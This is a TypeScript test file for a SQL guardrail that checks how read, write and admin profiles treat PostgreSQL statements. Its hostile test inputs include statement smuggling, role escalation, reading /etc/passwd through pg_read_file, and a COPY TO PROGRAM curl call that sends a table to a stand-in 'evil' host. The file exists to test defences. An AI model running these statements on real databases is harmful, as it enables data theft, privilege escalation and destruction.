/**
 * The guardrail table: hostile and benign statements, what the analyzer makes of them and what
 * each access level gets. The catalog is emulated here (a list of known non-volatile functions,
 * everything else volatile, as the real catalog treats unknown names); the corpus test in
 * test/integration/guardrails runs the same kind of cases through HTTP against PostgreSQL.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeSql } from '../../../src/sql/analyze.js';
import { loadSqlParser } from '../../../src/sql/parser.js';
import { decide } from '../../../src/policy/decide.js';
import { PolicyConfig } from '../../../src/policy/schema.js';
import type { QualifiedName, StatementKind } from '../../../src/sql/types.js';
import { isBrokerError } from '../../../src/errors.js';

const policy = PolicyConfig.parse({
  audience: 'api://qb-test',
  connections: { sales: { credentials: { env: 'X' } } },
  profiles: {
    read: { match: { roles: ['R'] }, connections: ['sales'], access: 'read' },
    write: { match: { roles: ['W'] }, connections: ['sales'], access: 'write', approval: { approvers: { roles: ['A'] }, estimatedRowsOver: 100 } },
    admin: { match: { roles: ['D'] }, connections: ['sales'], access: 'admin', approval: { approvers: { roles: ['A'] } } },
  },
});

/** Functions PostgreSQL marks stable or immutable that these cases call. */
const NON_VOLATILE = new Set([
  'count', 'sum', 'max', 'lower', 'upper', 'abs', 'length', 'coalesce', 'generate_series', 'current_setting', 'date_trunc',
  'jsonb_build_object', 'jsonb_path_query', 'to_char', 'row_number', 'extract', 'btrim', 'array_agg', 'string_agg', 'format',
  'json_agg', 'now', 'timezone', 'pg_typeof', 'unnest', 'md5', 'regexp_replace', 'substring',
]);
const volatileAmong = (fns: QualifiedName[]): QualifiedName[] => fns.filter((f) => !NON_VOLATILE.has(f.name));

type Expect = 'allow' | `deny:${string}` | `approve:${string}` | `error:${string}`;
interface Case {
  sql: string;
  kind?: StatementKind;
  risks?: string[];
  read: Expect;
  write: Expect;
  admin?: Expect;
  tablesRead?: string[];
  tablesWritten?: string[];
  functions?: string[];
  /** the planner estimate the pipeline would pass for writes (default 1) */
  rows?: number;
}

const W = 'deny:write_on_read_only_profile';
const DDL = 'approve:ddl_requires_approval';

const cases: Case[] = [
  // ── benign reads ─────────────────────────────────────────────────────────────────────────
  { sql: 'select 1', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select id, name from customers where id = $1', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: 'SELECT c.name, count(o.id) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING count(*) > 1 ORDER BY 2 DESC LIMIT 10 OFFSET 5', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers', 'orders'], functions: ['count'] },
  { sql: "select '; DROP TABLE customers'", kind: 'read', read: 'allow', write: 'allow', tablesRead: [] },
  { sql: "select 'COMMIT', $$ROLLBACK$$, $x$ END; $$ $x$", kind: 'read', read: 'allow', write: 'allow' },
  { sql: "SELECT * FROM customers WHERE name = 'x'';DROP TABLE customers;--'", kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: "select E'\\'; drop table customers; --'", kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select 1 -- ; drop table customers', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select 1 /* ; drop table customers */', kind: 'read', read: 'allow', write: 'allow' },
  { sql: '/* a /* nested */ ; drop table customers */ select 1', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select 1 as "commit", 2 as "drop table x"', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select 1;', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'values (1, 2), (3, 4)', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'table customers', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: 'select * from "customers"', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: 'select * from U&"cust\\006Fmers"', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: 'select * from public."Customers"', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['public.Customers'] },
  { sql: 'with recent as (select * from orders where id > 10) select * from recent join customers on customers.id = recent.customer_id', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['orders', 'customers'] },
  { sql: 'with recursive r(n) as (select 1 union all select n + 1 from r) select * from r', kind: 'read', read: 'allow', write: 'allow', tablesRead: [] },
  { sql: 'select * from (with customers as (select 1 as id) select * from customers) a, orders', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['orders'] },
  { sql: 'select * from orders where customer_id in (select id from customers where country = $1)', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['orders', 'customers'] },
  { sql: 'select row_number() over (partition by status order by amount_cents) from orders', kind: 'read', read: 'allow', write: 'allow', functions: ['row_number'] },
  { sql: 'select * from generate_series(1, 10) g', kind: 'read', read: 'allow', write: 'allow', functions: ['generate_series'] },
  { sql: "select current_setting('search_path'), now(), current_user, current_date", kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select random(), gen_random_uuid()', kind: 'read', read: 'allow', write: 'allow', functions: ['random', 'gen_random_uuid'] },
  { sql: 'select * from orders tablesample system (10)', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['orders'] },
  { sql: "select * from xmltable('/a' passing '<a/>' columns x int path '.')", kind: 'read', read: 'allow', write: 'allow' },
  { sql: "select json_object('a': 1), '1' is json, jsonb_path_query('{}', '$.a')", kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select coalesce(null, 1), greatest(1, 2), nullif(1, 2), case when true then 1 end', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select status, grouping(status) from orders group by rollup(status)', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select (array[1, 2])[1], (select max(id) from customers)', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: 'select * from customers where id = any($1::int[]) order by id limit all', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'show search_path', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'explain select * from customers', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'explain analyze select * from customers', kind: 'read', risks: ['explain_analyze'], read: 'allow', write: 'allow' },
  { sql: 'explain delete from customers', kind: 'read', read: 'allow', write: 'allow', tablesRead: ['customers'] },
  { sql: "explain (analyze off, format json) update customers set name = 'x'", kind: 'read', read: 'allow', write: 'allow' },
  { sql: `select ${'('.repeat(8000)}1${')'.repeat(8000)}`, kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'explain (analyze 0) delete from orders', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'explain (analyze no) delete from orders', kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'explain (analyze of) delete from orders', kind: 'read', read: 'allow', write: 'allow' },
  { sql: "explain (analyze '') delete from orders", kind: 'write', read: W, write: 'approve:delete_without_where' },
  { sql: 'explain (analyze yes) delete from orders where id = 1', kind: 'write', read: W, write: 'allow' },
  { sql: 'EXPLAIN ANALYSE VERBOSE delete from orders where id = 1', kind: 'write', read: W, write: 'allow' },

  // ── statement smuggling and parse errors ────────────────────────────────────────────────
  { sql: 'COMMIT; DROP TABLE customers', read: 'error:multiple_statements', write: 'error:multiple_statements' },
  { sql: 'select 1; commit', read: 'error:multiple_statements', write: 'error:multiple_statements' },
  { sql: 'rollback; delete from customers', read: 'error:multiple_statements', write: 'error:multiple_statements' },
  { sql: 'END; SET default_transaction_read_only = off', read: 'error:multiple_statements', write: 'error:multiple_statements' },
  { sql: 'begin; select 1; commit', read: 'error:multiple_statements', write: 'error:multiple_statements' },
  { sql: "select 1 $$; drop table customers; $$", read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: 'select 1 \\; drop table customers', read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: "update customers set name = concat('a\\', ') where id = 1; delete from orders; --') where id = 1", read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: "select 'a\\'", read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: "select N'a\\' || 'b'", read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: "select E'it\\'s', $$a\\'b$$, 'C:\\path\\file', 1 -- it\\'s", kind: 'read', read: 'allow', write: 'allow' },
  { sql: "select * from customers where name like '%\\_%'", kind: 'read', read: 'allow', write: 'allow' },
  { sql: 'select * from (delete from customers returning *) d', read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: `select ${'(select '.repeat(8000)}1${')'.repeat(8000)}`, read: 'error:sql_parse_error', write: 'error:sql_parse_error' },
  { sql: `select 1${' + 1'.repeat(8000)}`, read: 'error:sql_parse_error', write: 'error:sql_parse_error' },

  // ── transaction control ─────────────────────────────────────────────────────────────────
  { sql: 'COMMIT', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control', admin: 'deny:transaction_control' },
  { sql: 'ROLLBACK', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: 'END', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: 'abort', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: 'begin isolation level serializable', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: 'start transaction read write', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: 'savepoint a', kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: "prepare transaction 'x'", kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },
  { sql: "commit prepared 'x'", kind: 'transaction', read: 'deny:transaction_control', write: 'deny:transaction_control' },

  // ── session state ───────────────────────────────────────────────────────────────────────
  { sql: 'SET ROLE postgres', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change', admin: 'deny:session_state_change' },
  { sql: 'set session authorization postgres', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'reset role', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set transaction read write', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set session characteristics as transaction read write', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set default_transaction_read_only = off', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set local statement_timeout = 0', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set search_path = evil, public', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'reset all', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'discard all', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: "select set_config('default_transaction_read_only', 'off', false)", kind: 'read', read: 'deny:session_state_change', write: 'deny:session_state_change', admin: 'deny:session_state_change' },
  { sql: "select pg_catalog.set_config('role', 'postgres', true)", kind: 'read', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'prepare p as delete from customers', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'execute p', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'deallocate all', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'declare c cursor with hold for select * from customers', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'fetch all from c', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'move forward 5 in c', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'close c', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'listen channel', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'unlisten *', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },
  { sql: 'set constraints all deferred', kind: 'session', read: 'deny:session_state_change', write: 'deny:session_state_change' },

  // ── functions that escape the statement ────────────────────────────────────────────────
  { sql: 'select pg_terminate_backend(pid) from pg_stat_activity', kind: 'read', read: 'deny:server_control_function', write: 'deny:server_control_function', admin: 'deny:server_control_function' },
  { sql: 'select pg_catalog."pg_terminate_backend"(1)', kind: 'read', read: 'deny:server_control_function', write: 'deny:server_control_function', functions: ['pg_catalog.pg_terminate_backend'] },
  { sql: 'select U&"\\0070g_terminate_backend"(1)', kind: 'read', read: 'deny:server_control_function', write: 'deny:server_control_function', functions: ['pg_terminate_backend'] },
  { sql: 'select pg_cancel_backend(1)', kind: 'read', read: 'deny:server_control_function', write: 'deny:server_control_function' },
  { sql: 'select pg_reload_conf()', kind: 'read', read: 'deny:server_control_function', write: 'deny:server_control_function' },
  { sql: "select * from pg_read_file('/etc/passwd')", kind: 'read', read: 'deny:server_file_access', write: 'deny:server_file_access', functions: ['pg_read_file'] },
  { sql: "select * from rows from (generate_series(1, 2), pg_ls_dir('.')) x", kind: 'read', read: 'deny:server_file_access', write: 'deny:server_file_access' },
  { sql: "select (select pg_read_binary_file('postgresql.conf'))", kind: 'read', read: 'deny:server_file_access', write: 'deny:server_file_access' },
  { sql: "select lo_import('/etc/passwd')", kind: 'read', read: 'deny:server_file_access', write: 'deny:server_file_access' },
  { sql: "select lo_export(1, '/tmp/x')", kind: 'read', read: 'deny:server_file_access', write: 'deny:server_file_access' },
  { sql: 'select lo_get(1)', kind: 'read', read: 'deny:large_object_function', write: 'deny:large_object_function' },
  { sql: 'select pg_advisory_lock(42)', kind: 'read', read: 'deny:advisory_lock', write: 'deny:advisory_lock' },
  { sql: 'select pg_try_advisory_xact_lock(42)', kind: 'read', read: 'deny:advisory_lock', write: 'deny:advisory_lock' },
  { sql: "select query_to_xml('select * from customers', true, true, '')", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function', admin: 'deny:sql_string_function' },
  { sql: "select table_to_xml('customers', true, true, '')", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },
  { sql: "select database_to_xml(true, true, '')", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },
  { sql: "select * from dblink('dbname=sales', 'delete from customers') as t(x text)", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },
  { sql: "select ext.dblink_exec('drop table customers')", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },
  { sql: "select ts_stat('select to_tsvector(name) from customers')", kind: 'read', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },
  { sql: "select pg_notify('ch', 'x')", kind: 'read', read: 'deny:notification', write: 'deny:notification' },
  { sql: "update customers set name = query_to_xml('select 1', true, true, '')::text where id = 1", kind: 'write', read: 'deny:sql_string_function', write: 'deny:sql_string_function' },

  // ── volatile functions in reads ─────────────────────────────────────────────────────────
  { sql: 'select pg_sleep(10)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function', admin: 'deny:volatile_function' },
  { sql: 'select "pg_sleep"(10)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function', functions: ['pg_sleep'] },
  { sql: 'select * from orders order by pg_sleep(1)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function' },
  { sql: "select nextval('orders_id_seq')", kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function' },
  { sql: "select setval('orders_id_seq', 1)", kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function' },
  { sql: 'select setseed(0.5)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function' },
  { sql: 'select "PG_SLEEP"(1)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function', functions: ['PG_SLEEP'] },
  { sql: 'select f(a => 1)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function', functions: ['f'] },
  { sql: 'explain select pg_sleep(1)', kind: 'read', read: 'deny:volatile_function', write: 'deny:volatile_function' },

  // ── writes hidden in reads ──────────────────────────────────────────────────────────────
  { sql: 'with d as (delete from customers returning *) select * from d', kind: 'write', risks: ['data_modifying_cte', 'delete_without_where'], read: W, write: 'approve:delete_without_where', tablesWritten: ['customers'] },
  { sql: "with u as (update customers set name = 'x' where id = 1 returning id) select * from u", kind: 'write', risks: ['data_modifying_cte'], read: W, write: 'allow' },
  { sql: 'with x as (select 1), y as (insert into orders (customer_id, amount_cents) values (1, 1) returning id) select * from x', kind: 'write', read: W, write: 'allow' },
  { sql: 'select * from customers for update', kind: 'write', risks: ['locking_clause'], read: W, write: 'allow' },
  { sql: 'select * from customers where id = 1 for share skip locked', kind: 'write', read: W, write: 'allow' },
  { sql: 'select * from customers c join orders o on o.customer_id = c.id for no key update of c nowait', kind: 'write', read: W, write: 'allow' },
  { sql: 'select * from (select * from customers for key share) s', kind: 'write', read: W, write: 'allow' },
  { sql: 'select * into stolen from customers', kind: 'ddl', risks: ['select_into'], read: W, write: DDL, tablesWritten: ['stolen'] },
  { sql: 'create table stolen as select * from customers', kind: 'ddl', read: W, write: DDL },
  { sql: 'explain analyze delete from customers', kind: 'write', risks: ['explain_analyze', 'delete_without_where'], read: W, write: 'approve:delete_without_where' },
  { sql: 'explain (analyze) update customers set name = $1 where id = 1', kind: 'write', read: W, write: 'allow' },
  { sql: "explain (analyze 'on') insert into orders select * from orders", kind: 'write', read: W, write: 'allow' },
  { sql: "explain (analyze 1, buffers) delete from orders where id = 1", kind: 'write', read: W, write: 'allow' },

  // ── writes ──────────────────────────────────────────────────────────────────────────────
  { sql: "insert into orders (customer_id, amount_cents) values (1, 100)", kind: 'write', read: W, write: 'allow', tablesWritten: ['orders'], tablesRead: [] },
  { sql: "insert into orders (customer_id, amount_cents) values (1, 100) on conflict do nothing returning id", kind: 'write', read: W, write: 'allow', tablesRead: ['orders'] },
  { sql: "update customers set name = 'x' where id = $1", kind: 'write', read: W, write: 'allow', tablesWritten: ['customers'] },
  { sql: 'delete from orders where id = 1', kind: 'write', read: W, write: 'allow' },
  { sql: "update customers set name = 'x'", kind: 'write', risks: ['update_without_where'], read: W, write: 'approve:update_without_where' },
  { sql: 'delete from orders', kind: 'write', risks: ['delete_without_where'], read: W, write: 'approve:delete_without_where' },
  { sql: 'delete from orders where true', kind: 'write', risks: ['delete_without_where'], read: W, write: 'approve:delete_without_where' },
  { sql: 'delete from orders where 1 = 1', kind: 'write', risks: ['delete_without_where'], read: W, write: 'approve:delete_without_where' },
  { sql: "delete from orders where status = 'open'", kind: 'write', rows: 5000, read: W, write: 'approve:estimated_rows_over_threshold' },
  { sql: 'insert into orders select * from orders', kind: 'write', rows: 50, read: W, write: 'allow' },
  { sql: 'merge into orders o using customers c on o.customer_id = c.id when matched then delete', kind: 'write', rows: 1000, read: W, write: 'approve:estimated_rows_over_threshold' },
  { sql: 'update customers set name = 1 where current of c', read: 'deny:unrecognised_construct', write: 'deny:unrecognised_construct' },
  { sql: 'truncate orders', kind: 'write', risks: ['truncate'], read: W, write: 'approve:truncate' },
  { sql: "update pg_settings set setting = 'off' where name = 'default_transaction_read_only'", kind: 'write', read: W, write: 'deny:session_state_change', admin: 'deny:session_state_change' },
  { sql: "update pg_catalog.pg_settings set setting = '0' where name = 'statement_timeout'", kind: 'write', read: W, write: 'deny:session_state_change' },
  { sql: "delete from pg_catalog.pg_largeobject where loid = 1", kind: 'write', read: W, write: 'deny:system_catalog_write', admin: 'deny:system_catalog_write' },
  { sql: "insert into information_schema.sql_features values ('x')", kind: 'write', read: W, write: 'deny:system_catalog_write' },
  { sql: "update customers set name = 'x' from pg_settings where customers.id = 1", kind: 'write', read: W, write: 'allow' },

  // ── DDL, privileges, administration ─────────────────────────────────────────────────────
  { sql: 'drop table customers', kind: 'ddl', read: W, write: DDL, admin: DDL, tablesWritten: ['customers'] },
  { sql: 'alter table customers add column note text', kind: 'ddl', read: W, write: DDL },
  { sql: 'create index on orders (status)', kind: 'ddl', read: W, write: DDL },
  { sql: "create function f() returns int language sql as 'select 1'", kind: 'ddl', read: W, write: DDL },
  { sql: "comment on table customers is 'x'", kind: 'ddl', read: W, write: DDL },
  { sql: 'refresh materialized view mv', kind: 'ddl', read: W, write: DDL },
  { sql: 'grant select on customers to public', kind: 'admin', risks: ['privilege_change'], read: W, write: 'approve:privilege_change', admin: 'approve:privilege_change' },
  { sql: 'revoke all on customers from qb_agent_read', kind: 'admin', read: W, write: 'approve:privilege_change' },
  { sql: 'grant postgres to qb_agent_read', kind: 'admin', read: W, write: 'approve:privilege_change' },
  { sql: 'alter default privileges grant all on tables to public', kind: 'admin', read: W, write: 'approve:privilege_change' },
  { sql: 'create role evil superuser login', kind: 'admin', read: W, write: 'deny:admin_command_requires_admin_profile', admin: 'approve:admin_command_requires_approval' },
  { sql: 'create extension dblink', kind: 'admin', read: W, write: 'deny:admin_command_requires_admin_profile', admin: 'approve:admin_command_requires_approval' },
  { sql: 'vacuum full customers', kind: 'admin', read: W, write: 'deny:admin_command_requires_admin_profile', admin: 'approve:admin_command_requires_approval' },
  { sql: 'analyze customers', kind: 'admin', read: W, write: 'deny:admin_command_requires_admin_profile' },
  { sql: 'alter system set log_statement = none', kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command', admin: 'deny:server_level_command' },
  { sql: "load 'evil.so'", kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command', admin: 'deny:server_level_command' },
  { sql: 'checkpoint', kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command' },
  { sql: "create subscription s connection 'host=evil' publication p", kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command', admin: 'deny:server_level_command' },
  { sql: 'create server evil foreign data wrapper postgres_fdw', kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command' },
  { sql: 'drop database sales', kind: 'admin', read: 'deny:server_level_command', write: 'deny:server_level_command' },

  // ── procedural code, COPY, LOCK, NOTIFY ────────────────────────────────────────────────
  { sql: 'do $$ begin delete from customers; end $$', kind: 'procedural', read: 'deny:procedural_code', write: 'deny:procedural_code', admin: 'deny:procedural_code' },
  { sql: "DO LANGUAGE plpgsql 'begin perform 1; end'", kind: 'procedural', read: 'deny:procedural_code', write: 'deny:procedural_code' },
  { sql: 'call cleanup()', kind: 'procedural', read: W, write: 'approve:procedure_call', admin: 'approve:procedure_call' },
  { sql: "copy customers to program 'curl -d @- http://evil'", kind: 'utility', risks: ['copy_statement', 'server_file_access'], read: 'deny:copy_statement', write: 'deny:server_file_access', admin: 'deny:copy_statement' },
  { sql: "copy (select * from customers) to '/tmp/stolen.csv'", kind: 'utility', read: 'deny:server_file_access', write: 'deny:copy_statement', tablesRead: ['customers'] },
  { sql: "copy customers from '/etc/passwd'", kind: 'utility', read: 'deny:server_file_access', write: 'deny:server_file_access' },
  { sql: 'copy customers to stdout', kind: 'utility', read: 'deny:copy_statement', write: 'deny:copy_statement' },
  { sql: 'copy orders from stdin', kind: 'utility', read: 'deny:copy_statement', write: 'deny:copy_statement' },
  { sql: 'lock table customers in access exclusive mode', kind: 'utility', read: 'deny:lock_statement', write: 'deny:lock_statement', admin: 'deny:lock_statement' },
  { sql: "notify channel, 'x'", kind: 'utility', read: 'deny:notification', write: 'deny:notification' },
];

function expectation(c: Case, access: 'read' | 'write' | 'admin'): Expect | undefined {
  return access === 'admin' ? c.admin : c[access];
}

const fmt = (n: QualifiedName): string => (n.schema === undefined ? n.name : `${n.schema}.${n.name}`);

beforeAll(async () => {
  await loadSqlParser();
});

describe('guardrail cases', () => {
  it('has a large table of hostile and benign cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(80);
  });

  for (const c of cases) {
    const label = c.sql.length > 90 ? `${c.sql.slice(0, 90)}…` : c.sql;
    it(`${label} → read ${c.read}, write ${c.write}${c.admin === undefined ? '' : `, admin ${c.admin}`}`, () => {
      for (const access of ['read', 'write', 'admin'] as const) {
        const want = expectation(c, access);
        if (want === undefined) continue;
        let analysis;
        try {
          analysis = analyzeSql(c.sql);
        } catch (e) {
          if (!isBrokerError(e)) throw e;
          expect(`error:${e.code}`, access).toBe(want);
          continue;
        }
        expect(want.startsWith('error:'), `${access}: analysis succeeded`).toBe(false);
        if (c.kind !== undefined) expect(analysis.kind).toBe(c.kind);
        for (const r of c.risks ?? []) expect(analysis.risks.map((x) => x.code)).toContain(r);
        if (c.tablesRead !== undefined) expect(analysis.tablesRead.map(fmt).sort()).toEqual([...c.tablesRead].sort());
        if (c.tablesWritten !== undefined) expect(analysis.tablesWritten.map(fmt).sort()).toEqual([...c.tablesWritten].sort());
        if (c.functions !== undefined) expect(analysis.functions.map(fmt).sort()).toEqual([...c.functions].sort());
        const decision = decide({
          analysis,
          profile: policy.profiles[access]!,
          policy,
          volatileFunctions: volatileAmong(analysis.functions),
          estimatedRows: analysis.needsRowEstimate === true ? (c.rows ?? 1) : undefined,
        });
        const [outcome, code] = want.split(':') as [string, string | undefined];
        expect(decision.outcome, `${access}: ${JSON.stringify(decision.reasons)}`).toBe(outcome === 'approve' ? 'needs_approval' : outcome);
        if (code !== undefined) expect(decision.reasons.map((r) => r.code), access).toContain(code);
        for (const r of decision.reasons) {
          expect(r.code).toMatch(/^[a-z][a-z0-9_]*$/);
          expect(r.message.length).toBeGreaterThan(30);
        }
      }
    });
  }
});

/** Ordinary query syntax must never trip the fail-closed allow-list of query constructs. */
const ORDINARY = [
  "select sum(x) over (order by y rows between 1 preceding and current row), count(*) filter (where z > 1), percentile_cont(0.5) within group (order by x) from t group by x, y, z",
  "select distinct on (a) a, b from t order by a, b desc nulls last fetch first 5 rows with ties",
  "select * from t, lateral (select * from u where u.id = t.id limit 1) l",
  "select a, b, count(*) from t group by grouping sets ((a), (b), ())",
  "select array(select id from t), exists(select 1 from u), (1,2) < (3,4), a is distinct from b, a between symmetric 1 and 2, a ilike 'x%', a similar to 'x', now() at time zone 'UTC', interval '1 day', 'a' collate \"C\", (array[1,2,3])[1:2], '{\"a\":1}'::jsonb -> 'a', xmlparse(document '<a/>'), cast(1 as text), (date '2020-01-01', date '2020-02-01') overlaps (date '2020-01-15', date '2020-03-01'), position('a' in 'abc'), substring('abc' from 1 for 2), trim(both 'x' from 'xax'), extract(year from now()), current_timestamp(3) from t",
  "select * from t tablesample bernoulli (10) repeatable (42)",
  "select * from (values (1, 'a'), (2, 'b')) v(id, name)",
  "insert into t (id, x) values (1, 2) on conflict (id) do update set x = excluded.x where t.x < excluded.x returning old.x, new.x",
  "merge into t using u on t.id = u.id when matched and u.x > 0 then update set x = u.x when not matched then insert (id, x) values (u.id, u.x) when not matched by source then delete",
  "update t set (a, b) = (select a, b from u where u.id = t.id) where t.id in (1, 2)",
  "delete from t using u where t.id = u.id",
  "select * from json_table('[{\"a\":1}]'::jsonb, '$[*]' columns (a int path '$.a', nested path '$.b[*]' columns (b int path '$')))",
  "select json_query('{\"a\":[1]}'::jsonb, '$.a' with wrapper), json_exists('{}'::jsonb, '$.a'), json_value('{\"a\":1}'::jsonb, '$.a' returning int default 0 on empty), '{}' is json object, json_arrayagg(x order by x), json_objectagg(k : v) from t",
  "with recursive r(id, p) as (select id, parent from tree where parent is null union all select t.id, t.parent from tree t join r on t.parent = r.id) search depth first by id set ord cycle id set is_cycle using path select * from r",
  "select xmlelement(name a, xmlattributes(1 as b), xmlforest(1 as c)), xmlagg(xmlelement(name x)) from t",
  "select a from t where a = any (select b from u) and a <> all (array[1,2]) and a in (1,2,3)",
  "select * from t order by a using <",
  "select * from t for update of t skip locked",
  "select merge_action() from t",
  "select 1 from t where a is not true and b is unknown and c isnull and d notnull",
  "select coalesce(a, b), nullif(a, b), greatest(a, b), least(a, b), case a when 1 then 'x' else 'y' end, row(1, 2), (select max(a) from t) from t",
  "select a::numeric(10,2), b::varchar(20), c::timestamp(3) with time zone, d::int[] from t",
  "select f.* from unnest(array[1,2]) with ordinality as f(v, n)",
  "select * from generate_series(1, 3) as g(n) cross join t natural left join u",
  "select string_agg(distinct a, ',' order by a) from t",
  "select $1::int + $2, $3::text[]",
  "select system_user, current_role, current_catalog, localtimestamp, user",
  "select normalize('a'), 'a' is nfc normalized, collation for ('a')",
  "select * from t where (a, b) in (select 1, 2) and ctid = '(0,1)'",
];

describe('ordinary query syntax', () => {
  it.each(ORDINARY)('is recognised: %s', (sql) => {
    const a = analyzeSql(sql);
    expect(['read', 'write']).toContain(a.kind);
    expect(a.risks.filter((r) => r.code === 'unrecognised_construct' || r.code === 'unrecognised_statement')).toEqual([]);
  });
});
